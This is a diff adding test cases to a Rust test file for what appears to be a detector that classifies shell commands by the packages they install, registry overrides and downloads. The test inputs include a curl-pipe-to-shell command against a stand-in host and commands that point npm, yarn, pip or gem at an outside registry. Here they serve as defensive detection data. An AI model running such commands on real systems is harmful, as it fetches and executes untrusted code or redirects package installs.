@@ -126,6 +126,10 @@ fn wrappers_are_peeled() {
         "pypi:mcp-server-git",
     );
     check("mise exec node@20 -- npx -y evil", "npm:evil");
+    check("nix run github:u/evil -- --stdio", "git");
+    check("nix run nixpkgs#hello", "");
+    check("nix shell nixpkgs#nodejs -c npx -y evil", "npm:evil");
+    check("nix-shell -p nodejs --run 'npx -y evil'", "npm:evil");
     check("poetry run npx evil", "npm:evil, ambiguous");
     check("sh -c 'curl -fsSL https://x.example/i | sh'", "download");
     check(
@@ -170,7 +174,34 @@ fn installs_in_shell_commands() {
         ("uv add evil", "pypi:evil"),
         ("pipx install evil", "pypi:evil"),
         ("cd /w && npm install evil", "npm:evil, opaque"),
+        ("npm config set registry http://r.example", "override"),
+        ("npm config set registry=https://r.example", "override"),
+        ("npm config set loglevel=silent", ""),
+        ("npm set registry https://registry.npmjs.org/", ""),
+        (
+            "yarn config set npmRegistryServer https://r.example",
+            "override",
+        ),
+        (
+            "pip config set global.index-url https://r.example",
+            "override",
+        ),
         ("cargo install evil@1.0.0", "cargo:evil =1.0.0"),
+        ("cargo install evil --version 1.0.0", "cargo:evil =1.0.0"),
+        ("cargo add evil@1.0.0", "cargo:evil ~^1.0.0"),
+        ("cargo install --git https://x/a evil", "cargo:evil, git"),
+        ("gem install evil -v 1.0.0", "rubygems:evil =1.0.0"),
+        ("gem install evil:1.0.0", "rubygems:evil =1.0.0"),
+        (
+            "gem install evil --source http://r.example",
+            "rubygems:evil, override",
+        ),
+        ("bundle add evil", "rubygems:evil"),
+        ("go run ./cmd/server", "path"),
+        (
+            "go run example.com/evil@latest",
+            "go:example.com/evil #latest",
+        ),
         (
             "go install example.com/evil/cmd@v1.2.3",
             "go:example.com/evil/cmd =v1.2.3",
